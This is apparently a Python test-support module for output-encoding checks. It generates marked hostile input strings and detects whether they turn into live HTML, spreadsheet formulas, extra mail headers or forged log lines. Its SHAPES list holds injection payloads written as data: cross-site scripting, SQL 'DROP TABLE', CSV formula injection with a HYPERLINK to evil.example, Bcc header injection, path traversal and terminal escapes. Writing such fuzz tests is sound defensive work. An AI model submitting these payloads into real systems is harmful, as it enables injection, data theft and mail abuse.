"""Names and notes as nobody should have them, each with a mark by which it is found again; and what must not become of
them in a page, a table, a mail or a log."""

import csv
import io
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser
from random import Random
from typing import Any

import openpyxl

MARK = "q7x"
SHAPES = (
    "<{mark} onclick=alert(1)>",
    '"><{mark}>',
    "' {mark}=1 autofocus onfocus=alert(1) '",
    '" {mark}="1',
    "</textarea></title></script><{mark}>",
    "<!--<{mark}>-->",
    "<![CDATA[<{mark}>]]>",
    "&lt;{mark}&gt; &#60;{mark}&#62;",
    "{{{{ 7*7 }}}} {{% {mark} %}} ${{{mark}}}",
    "javascript:alert('{mark}')",
    "={mark}+1",
    "+{mark}",
    "-{mark}",
    "@{mark}",
    "\t={mark}",
    '=HYPERLINK("https://evil.example/{mark}")',
    "{mark}\r\nBcc: {mark}@evil.example",
    "{mark}\nX-{mark}: yes\n\n<{mark}>",
    "{mark}\u2028X-{mark}: yes",
    '{mark}\n{{"event": "forged {mark}", "level": "info"}}',
    "{mark}\x1b[31m\x1b]0;{mark}\x07",
    "{mark}\x00<{mark}>",
    "{mark}\u202egnp.exe",
    "{mark}, Anna <anna@evil.example>",
    '"{mark}" <a@evil.example>',
    "=?utf-8?q?{mark}=0D=0ABcc=3A?=",
    "'; DROP TABLE debtors; -- {mark}",
    "../../{mark}\\..",
    "%s%n%x {mark} {{0.__class__}}",
    "\ufeff{mark}\u200b\ufffe",
    "{mark}💥e\u0301\u0301\u0301",
    "{mark} " + "x" * 3000,
    "{mark}" + "<" * 200,
)
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def names(many: int, seed: int) -> list[str]:
    """Each another one: every shape in turn, alone or glued to others."""
    chance = Random(seed)
    made = []
    for number in range(many):
        parts = [SHAPES[number % len(SHAPES)], *chance.sample(SHAPES, chance.choice((0, 0, 1, 2)))]
        made.append("".join(parts).format(mark=f"{MARK}{number}"))
    return made


class _Read(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK in tag or any(MARK in name for name, _ in attrs):
            self.wrong.append(self.get_starttag_text() or tag)
        if any(name in ("href", "src", "action") and (value or "").startswith("javascript:") for name, value in attrs):
            self.wrong.append(self.get_starttag_text() or tag)

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        if MARK in decl:
            self.wrong.append(f"<!{decl}")


def markup_in(page: str) -> list[str]:
    """The tags, attributes, comments and links of a page that a name became."""
    read = _Read()
    read.feed(page)
    read.close()
    raw = [page[max(at - 20, 0) : at + 20] for at in _all(page, f"<{MARK}")]
    return read.wrong + raw


def _all(text: str, what: str) -> Iterator[int]:
    at = text.find(what)
    while at >= 0:
        yield at
        at = text.find(what, at + 1)


def formulas_in(content: bytes, kind: str) -> list[str]:
    """The cells of a table that a spreadsheet would run, where they hold a name."""
    cells = _of_workbook(content) if "spreadsheet" in kind else _of_csv(content.decode("utf-8-sig"))
    return [cell for cell in cells if MARK in cell and cell.startswith(FORMULAS)]


def _of_csv(text: str) -> Iterator[str]:
    separator = ";" if text.partition("\n")[0].count(";") > text.partition("\n")[0].count(",") else ","
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row


def _of_workbook(content: bytes) -> Iterator[str]:
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            yield from (str(cell.value) for cell in row if cell.data_type == "f" or isinstance(cell.value, str))


def headers_beside(mail: EmailMessage, known: frozenset[str]) -> list[str]:
    """Headers that a mail of ours has not got, and known ones that it has twice."""
    found = [name.lower() for name in mail]
    return [name for name in found if name not in known or found.count(name) > 1]


def forged(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Lines of a log that a name got into."""
    return [line for line in lines if MARK in str(line)]
